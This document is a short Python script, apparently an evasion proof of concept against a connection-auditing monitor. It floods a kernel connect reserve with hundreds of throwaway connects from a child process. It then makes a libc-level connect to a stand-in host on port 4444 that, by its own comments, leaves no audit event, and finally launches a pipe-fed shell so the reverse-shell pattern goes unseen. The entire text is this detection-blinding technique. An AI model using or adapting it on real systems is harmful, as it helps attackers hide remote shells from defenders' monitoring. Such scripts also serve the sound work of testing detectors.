# Fill the kernel's connect reserve from a child with connects to N
# distinct hosts (the first argument; 450 past native's reserve), then
# the payload: a connect out made through libc (no audit event of it),
# and a shell fed over a pipe (its stdio no socket: only the connect
# before it tells a reverse shell).
import ctypes, os, socket, struct, subprocess, sys
n = int(sys.argv[1]) if len(sys.argv) > 1 else 450
pid = os.fork()
if pid == 0:
    for i in range(n):
        s = socket.socket()
        s.settimeout(0.05)
        try:
            s.connect(("10.%d.%d.1" % (i // 250, i % 250), 80))
        except OSError:
            pass
        s.close()
    os._exit(0)
os.waitpid(pid, 0)
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
addr = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 4444) + socket.inet_aton("203.0.113.9") + bytes(8)
print("connect returned", libc.connect(fd, addr, len(addr)), ctypes.get_errno(), file=sys.stderr)
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
p.communicate(b"id\n", timeout=5)
